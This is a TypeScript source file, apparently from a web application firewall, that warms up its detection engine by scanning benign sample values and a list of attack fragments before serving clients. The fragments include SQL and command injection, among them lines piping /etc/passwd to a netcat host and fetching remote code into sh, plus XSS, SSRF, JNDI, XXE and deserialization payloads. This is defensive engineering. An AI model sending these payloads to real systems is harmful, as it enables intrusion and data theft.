// What runs for the first time is slow: its patterns are compiled, and its functions read and then compiled, when they
// are needed. So an engine judges a few texts that nobody sent before it judges a client's, where the isolate starts:
// values as clients send them, and pieces of every class of attack, so that a hostile first request finds compiled code,
// too. Nothing is kept of what it finds, but that it was looked at (shared/waf/judge/warmth.ts).

import { bodyOf } from '../../exchange/body.ts'
import { unitsOf } from '../../waf/work.ts'
import type { Engine } from '../../waf/judge/engine.ts'

/** Values as clients send them, and marks of each kind, so that every detector has something to look at. */
const TEXTS: readonly string[] = [
  'It\'s (a) [b] {c}; d: e, f. Say "g", or `h`? i * j = k # l @ m! <n> & o | p \\ q',
  "a name's (x); $y",
  'https://example.com/a/b.html?c=d&e=f#g',
  '2026-01-31T12:00:00Z',
  '<p class="a">text &amp; more</p>',
  '../a/b',
  'select a from b where c = 1',
  'a@example.com',
  '${a} {{b}}',
  'a\nb: c\n',
  'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=',
  '%41%42',
  '{"a":"b\'c"}',
  'f(x, "y")',
]

/** Pieces of attacks; two of them together, again and again, are a text. */
const PIECES: readonly string[] = [
  "x' or '1'='1' -- ",
  '1) union select a, b from c where (1=1',
  "\"; drop table a; exec xp_b 'c' /* d */ ",
  "1 and sleep(5) and case when 1=1 then a end || 'b' ",
  '; cat /etc/passwd | nc 192.0.2.1 80 && id ',
  '$(curl http://a.example/b|sh) `id` ${IFS} ',
  '| powershell -enc QQBB & dir c:\\windows\\win.ini ',
  '<script>alert(1)</script><img src=x onerror=b()> ',
  '"><svg/onload=a`1` style="b:url(javascript:c)"> ',
  '../../etc/shadow ..\\..\\boot.ini %2e%2e%2f ',
  'http://169.254.169.254/latest/ gopher://[::1]:80/ ',
  '{{7*7}} ${jndi:ldap://a/b} <%= a %> #{b} {% c %} ',
  "__import__('os').system('id') eval($_GET[a]) ",
  '*)(uid=*))(|(a=* " or count(//b)=1 or "a"="b ',
  '{"$gt":""} \', $where: \'1==1 db.a.find() ',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>&b; ',
  'a\r\nSet-Cookie: b=c\r\n\r\nGET /d HTTP/1.1 ',
  'O:8:"stdClass":1:{s:1:"a";} !!python/object:b rO0AB ',
  '\\u0027 \\x41 &#x3c;a&#62; %27%20or%201 \u2019 \uff1c ',
  'constructor.prototype.a __proto__[b]=c class.module ',
]

/** How long the texts are that stand for many: loops are compiled when they have run for a while. */
const LENGTH = 1000
const FORM_LENGTH = 300

let rehearsed = false

/** Once an isolate: what is compiled belongs to no engine. Takes about 100 ms, and a second time nothing. */
export const rehearse = (engine: Engine): void => {
  if (rehearsed) return
  rehearsed = true
  body(engine, JSON_TYPE, JSON.stringify({ id: 1, texts: TEXTS }))
  for (const text of TEXTS) engine.text('query', 'value', 'query.a', text, unitsOf(BUDGET_MS))
  for (const [index, piece] of PIECES.entries()) {
    const pair = piece + (PIECES[(index + 7) % PIECES.length] ?? '')
    const long = pair.repeat(LENGTH / pair.length)
    body(engine, JSON_TYPE, JSON.stringify({ [piece]: [long, pair, { a: piece }] }))
    engine.text('form', 'value', 'body.a', pair.repeat(FORM_LENGTH / pair.length), unitsOf(BUDGET_MS))
  }
  const all = PIECES.join('')
  body(engine, 'application/x-www-form-urlencoded', PIECES.map((one) => `a=${percent(one)}`).join('&'))
  body(
    engine,
    'application/xml',
    `<a>${PIECES.map((one) => `<b c='${percent(one)}'>&#65;</b>`).join('')}</a>`,
  )
  body(engine, `multipart/form-data; boundary=${BOUNDARY}`, PIECES.map(part).join('') + `--${BOUNDARY}--`)
  body(engine, JSON_TYPE, JSON.stringify({ a: percent(percent(all)) }))
}

const JSON_TYPE = 'application/json'
const BOUNDARY = 'x'

const part = (text: string): string =>
  `--${BOUNDARY}\r\ncontent-disposition: form-data; name="a"\r\n\r\n${text}\r\n`

/** Every character encoded that is no letter beyond ASCII. */
const percent = (text: string): string =>
  text.replaceAll(/[ -~]/g, (one) => `%${one.charCodeAt(0).toString(16)}`)

/** Far more than any of them takes. */
const BUDGET_MS = 100

const body = (engine: Engine, type: string, text: string): void => {
  const made = bodyOf(new TextEncoder().encode(text), type)
  engine.body(made, made.text, type, false, unitsOf(BUDGET_MS))
}
